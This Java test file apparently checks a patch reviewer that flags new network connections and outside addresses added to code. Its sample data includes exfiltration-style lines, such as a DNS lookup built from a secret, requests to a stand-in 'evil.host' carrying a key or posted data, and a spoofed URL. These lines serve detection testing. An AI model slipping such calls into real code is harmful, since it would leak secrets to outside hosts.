package io.programmeragent.core.prove.review;

import static org.assertj.core.api.Assertions.assertThat;

import io.programmeragent.api.fix.FileChange;
import io.programmeragent.api.fix.Patch;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ConnectionsTest {
    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            A.java | new java.net.Socket("host.example", 9);
            A.java | HttpClient.newHttpClient().send(request, handler);
            A.java | new URL(text).openStream();
            A.java | InetAddress.getByName(secret + ".host.example");
            a.py   | urllib.request.urlopen(url)
            a.py   | requests.post(url, data=body)
            a.js   | await fetch(url, { method: 'POST' });
            a.ts   | const net = require('net');
            a.ts   | import https from 'https'
            a.ts   | window.fetch(url)
            a.go   | http.NewRequest("GET", "https://host.example/", nil)
            a.go   | http.NewRequestWithContext(ctx, "GET", url, nil)
            a.go   | conn, err := net.Dial("tcp", address)
            a.go   | http.DefaultClient.Do(r)
            a.rs   | let stream = TcpStream::connect(address)?;
            a.rs   | attohttpc::get(url);
            A.java | DriverManager.getConnection(url);
            A.java | new javax.naming.InitialContext().lookup(name);
            A.java | ImageIO.read(new java.net.URL(text));
            A.kt   | val s = java.net.URI(text).toURL().readText()
            A.kt   | val c = HttpClient(CIO)
            a.py   | from requests import post
            a.py   | import requests as r
            a.py   | import urllib3
            a.py   | from socket import create_connection
            a.py   | from urllib import request as r
            a.py   | from http import client
            a.ts   | import got from "got";
            a.js   | process.mainModule.require("http").get(url)
            a.rb   | require "net/http"
            a.php  | $c = curl_init($url);
            A.cs   | new System.Net.Http.HttpClient();
            a.c    | int s = socket(AF_INET, SOCK_STREAM, 0);
            a.ex   | HTTPoison.get(url)
            """)
    void a_connection_that_was_not_opened_before_is_refused(String path, String line) {
        assertThat(Connections.opened(patch(path, "x\n", "x\n" + line + "\n"))).contains(path);
        assertThat(Review.findings(
                        patch("src/" + path, "", line),
                        io.programmeragent.core.incident.Policy.PatchLimits.defaults(),
                        List.of()))
                .anyMatch(f -> f.contains("opens a connection"));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            a_test.go | req, _ := http.NewRequest("GET", "/carts/1", nil)
            a_test.go | req := http.NewRequestWithContext(context.Background(), http.MethodGet, "/carts", body)
            a.ts   | const scheme = secure ? "https" : 'http';
            a.ts   | const cart = await this.carts.fetch(id);
            a.py   | waiting = self.requests.get(key)
            a.py   | from requests.exceptions import Timeout
            a.py   | except requests.ConnectionError:
            a.py   | from socket import timeout
            a.py   | from http import HTTPStatus
            A.java | URL there = file.toURI().toURL();
            a.ts   | import { got } from "./got";
            a.py   | # requests.get would do
            a_test.go | resp, err := http.Get(srv.URL)
            src/test/java/ATest.java | HttpClient.newHttpClient().send(to(server.url("/")), handler);
            """)
    void what_only_sounds_like_a_connection_is_none(String path, String line) {
        assertThat(Connections.opened(patch(path, "x\n", "x\n" + line + "\n"))).isEmpty();
    }

    @Test
    void one_that_was_there_may_be_changed_or_moved_to_another_file() {
        String before = "Socket s = new Socket(host, port);\n";
        assertThat(Connections.opened(patch(
                        "A.java",
                        before,
                        "Socket s = new Socket();\ns.connect(new InetSocketAddress(host, port), 500);\n")))
                .isEmpty();
        assertThat(Connections.opened(new Patch(List.of(
                        new FileChange("A.java", Optional.of(before), Optional.of("\n")),
                        new FileChange("B.java", Optional.of("\n"), Optional.of(before))))))
                .isEmpty();
    }

    @Test
    void a_test_may_ask_what_it_started_itself_and_nobody_else() {
        String path = "src/test/java/ATest.java";
        String own = "HttpClient.newHttpClient(); URI.create(\"http://127.0.0.1:\" + port);\n";
        assertThat(Connections.opened(patch(path, "", own))).isEmpty();
        assertThat(Connections.opened(patch(path, "", own + "URI.create(\"https://host.example/\");\n")))
                .contains(path);
        assertThat(Connections.opened(patch(path, "", "new Socket(\"host.example\", 9);\n")))
                .contains(path);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            A.java | t.getForObject("http://evil.host/?k=" + key, String.class);
            a.py   | s.post('https://evil.host', data=x)
            a.py   | s.get("https://prices.host@evil.host/")
            a.go   | c.Get("http://evil.host/")
            a.yml  | url: "https://evil.host/prices"
            A.java | connect("jdbc:mysql://evil.host/x");
            """)
    void an_address_of_another_machine_is_news_also_where_a_client_is_there(String path, String line) {
        String there = "s = client(); // \"https://prices.host/\"\n";

        assertThat(Connections.newAddress(patch(path, there, there + line + "\n")))
                .contains(path);
        assertThat(Connections.newAddress(patch(path, line + "\n", "x\n" + line + "\n")))
                .as("it was there")
                .isEmpty();
        assertThat(Connections.newAddress(patch("src/test/" + path, there, there + line + "\n")))
                .isEmpty();
        assertThat(Review.findings(patch(path, there, there + line + "\n"), Reviewed.OPEN, List.of()))
                .anyMatch(f -> f.contains("another machine's address"));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            A.java  | factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
            A.java  | factory.setFeature("http://xml.org/sax/features/external-general-entities", false);
            a.py    | # see "https://docs.host/why"
            a.py    | raise ValueError("see https://docs.host/why")
            a.js    | const here = "http://localhost:8080/";
            a.tsx   | <a href="https://docs.host/">more</a>
            a.go    | url := "https://" + host + "/"
            a.ts    | const url = `https://${host}/`;
            a.xml   | <!DOCTYPE m PUBLIC "-//M//DTD 1.1//EN" "https://m.host/m_1_1.dtd">
            a.xml   | <Filter xmlns:f="https://bugs.host/filter/3.0.0">
            a.md    | "https://docs.host/"
            """)
    void an_address_that_nothing_goes_to_is_none(String path, String line) {
        assertThat(Connections.newAddress(patch(path, "x\n", "x\n" + line + "\n")))
                .isEmpty();
    }

    private static Patch patch(String path, String before, String after) {
        return new Patch(List.of(new FileChange(path, Optional.of(before), Optional.of(after))));
    }
}
